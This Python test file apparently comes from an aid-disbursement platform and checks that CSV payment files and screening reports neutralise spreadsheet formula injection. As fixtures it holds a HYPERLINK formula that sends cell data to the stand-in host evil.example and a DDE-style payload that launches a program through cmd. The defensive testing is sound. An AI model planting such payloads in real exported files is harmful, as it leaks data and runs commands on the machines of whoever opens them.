"""Finding 2: no cell of a file the platform writes may start a formula in Excel or WPS."""

import csv
import io
from datetime import date

from tests.notices.sim import add_household
from yimen.domain.model import AidRecord
from yimen.services.checking.screening import screen, write_csv
from yimen.services.funds.slips import create_slips

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
FORMULA_STARTS = tuple("=+-@\t\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_formula_start_is_neutralised_and_numbers_pass():
    from yimen.services.spreadsheets import safe_cell

    for start in FORMULA_STARTS:
        assert safe_cell(start + "1+2") == "'" + start + "1+2"
    assert safe_cell("示范农商银行") == "示范农商银行" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_payment_file_carries_hostile_text_as_text(seeded):
    """Payee fields are validated strictly before export (domain/payee.py); the memo comes from the slip,
    so the writer itself must neutralise it, whatever checks ran before."""
    household = add_household(seeded, 7)
    with seeded.uow() as uow:
        (slip,) = create_slips(
            uow,
            application_id="a-formula",
            household_id=household.id,
            item_code="linshi",
            item_name=HYPERLINK,
            department="民政局",
            amount_fen=10000,
            monthly=False,
            months=1,
            start=date(2026, 11, 25),
        )
    auth = seeded.auth
    service = seeded.disbursement
    service.act(auth.staff_actor("centre"), "review", [slip.id])
    service.act(auth.staff_actor("finance"), "approve", [slip.id])
    payment_file = service.export_batch(auth.staff_actor("finance")).payment_file
    row = next(csv.DictReader(io.StringIO(payment_file)))
    assert row["memo"] == "'" + HYPERLINK and row["bank_card"].isdigit()
    assert not [c for c in _cells(payment_file) if c.startswith(FORMULA_STARTS)]


def test_the_shared_writer_neutralises_hostile_bank_fields():
    from yimen.services.spreadsheets import write_csv as write_rows

    out = io.StringIO()
    write_rows(out, ("bank_name", "bank_card", "amount_fen"), [(HYPERLINK, "=1+2", 100), ("\t=1", "\r@x", -1)])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + HYPERLINK, "'=1+2", "100"] and rows[2] == ["'\t=1", "'\r@x", "-1"]


def test_screening_report_neutralises_names(seeded):
    household = add_household(seeded, 8)
    with seeded.uow() as uow:
        household = uow.households.get(household.id)
        household.members[0].name = "+cmd|'/C calc'!A0"
        uow.households.update(household)
    paid = [
        AidRecord(
            household_id=household.id,
            item_code="=cmd",
            item_name="-1+1",
            department="民政局",
            measure="现金",
            amount_fen=100,
            paid_on=date(2026, 10, 1),
            source="x",
            source_ref=str(n),
            period="2026-10",
        )
        for n in range(2)
    ]  # a repeat: one finding naming the item code
    findings = screen([household], lambda _: paid, date(2026, 11, 25))
    out = io.StringIO()
    write_csv(findings, out)
    assert findings and not [c for c in _cells(out.getvalue()) if c.startswith(FORMULA_STARTS)]
